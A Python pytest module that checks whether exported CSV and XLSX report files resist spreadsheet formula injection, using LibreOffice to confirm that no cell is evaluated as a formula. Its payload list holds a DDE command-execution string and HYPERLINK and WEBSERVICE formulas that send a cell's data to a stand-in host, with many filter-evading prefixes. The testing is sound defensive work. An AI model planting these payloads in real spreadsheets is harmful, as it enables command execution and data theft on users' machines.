"""What a spreadsheet program makes of texts that would be formulas: texts, and numbers stay.

LibreOffice opens each file as a person would who lets it evaluate what it finds, and writes
down what it took each cell for. Excel is not to be had here.
"""

import shutil
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest
from openpyxl import load_workbook

from app.model.reading import PointId
from app.reports.sheets.plaintable import PlainTable, plain_csv, plain_xlsx
from app.reports.sheets.valuetable import values_csv, values_xlsx
from app.reports.valuetable import ValueColumn, ValueTable, value_table
from app.reports.words import Words
from app.series import Series
from tests.machine import libreoffice

EN, DA = Words(), Words("da")
MADE = datetime(2026, 1, 20, 11, tzinfo=UTC)
BEGINS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u200b=", "\ufeff=", "'=", "''=",
    '"=', ";=", ",=", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", "꞊", "⁼", "{=", "|=",
)  # fmt: skip
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"y")',
    'WEBSERVICE("http://x.example")',
    "SUM(1;2)",
)
ALONE = (
    "+45 12 34 56 78", "-2+3", "a\n=1+1", 'a"\n=1+1', "a;=1+1", "a,=1+1", "a\t=1+1", "=",
    "@", "-", "00123", "12-34", "1/2", "TRUE", "#REF!", "=1+1" * 500,
)  # fmt: skip
PAYLOADS = (*(begin + body for begin in BEGINS for body in BODIES), *ALONE)
# Separator, quotation mark, UTF-8, first line, … numbers detected … formulas evaluated.
READ_CSV = "{},34,76,1,,{},false,true,false,false,false,0,true"


def plain(_: Words) -> PlainTable:
    """Return each text beside a number below nought."""
    rows = [(text, -1.5 - nth) for nth, text in enumerate(PAYLOADS)]
    return PlainTable("Devices", "Europe/Copenhagen", MADE, PAYLOADS[0], ("a", "b"), rows)


def values(_: Words) -> ValueTable:
    """Return columns that bear the texts as names, with numbers below nought."""
    times = round(MADE.timestamp() * 1000) + 900_000 * np.arange(3, dtype=np.int64)
    series = Series(PointId("a.b"), times, np.array([-1.5, -20.5, -0.5]), np.zeros(3, np.uint8))
    return value_table(
        [ValueColumn(text, text, "°C", 1, series) for text in PAYLOADS[:60]],
        (MADE, MADE + timedelta(hours=1)),
        title=PAYLOADS[3],
        zone="Europe/Copenhagen",
        made_at=MADE,
        made_by=PAYLOADS[7],
    )


def seen(file: Path, separator: str = "", language: int = 1033) -> list[object]:
    """Return what LibreOffice takes each cell of a file for; a formula is told by its text."""
    out = file.parent / f"seen-{file.name}"
    out.mkdir()
    how = READ_CSV.format(ord(separator), language) if separator else ""
    reading = [f"--infilter=Text - txt - csv (StarCalc):{how}"] if separator else []
    profile = f"-env:UserInstallation={(file.parent / 'office').as_uri()}"
    subprocess.run(
        ["soffice", profile, "--headless", *reading, "--convert-to", "xlsx", "--outdir",
         str(out), str(file)],
        check=True, capture_output=True, timeout=240,
    )  # fmt: skip
    book = load_workbook(next(out.iterdir()))
    cells = [each for sheet in book for row in sheet.iter_rows() for each in row]
    shutil.rmtree(out)
    assert [f"{each.coordinate}: {each.value}" for each in cells if each.data_type == "f"] == []
    assert not [each for each in cells if each.hyperlink]
    return [each.value for each in cells if each.value is not None]


@pytest.mark.campaign
@pytest.mark.timeout(900)
@libreoffice
@pytest.mark.parametrize(
    ("table", "as_csv", "as_xlsx", "numbers"),
    [
        (plain, plain_csv, plain_xlsx, [-1.5 - nth for nth in range(len(PAYLOADS))]),
        (values, values_csv, values_xlsx, [-1.5] * 60 + [-20.5] * 60 + [-0.5] * 60),
    ],
    ids=["rows", "values"],
)
def test_no_text_is_taken_for_a_formula_and_no_number_for_a_text(
    tmp_path: Path,
    table: Callable[[Words], object],
    as_csv: Callable[[object, Words], bytes],
    as_xlsx: Callable[[object, Words], bytes],
    numbers: list[float],
) -> None:
    for name, words, separator, language in (
        ("en.csv", EN, ",", 1033),
        ("da.csv", DA, ";", 1030),
        ("en.xlsx", EN, "", 0),
    ):
        file = tmp_path / name
        file.write_bytes((as_csv if separator else as_xlsx)(table(words), words))
        found = seen(file, separator, language)
        below = [each for each in found if isinstance(each, float | int) and each < 0]
        assert sorted(below) == sorted(numbers), name
        sys.stdout.write(f"{name}: {len(found)} cells, no formula\n")


@pytest.mark.campaign
@libreoffice
def test_what_nobody_guards_would_be_a_formula(tmp_path: Path) -> None:
    file = tmp_path / "bare.csv"
    file.write_text("a\n=1+1\n-2+3\n", encoding="utf-8")
    with pytest.raises(AssertionError, match="A2: =1"):
        seen(file, ",")
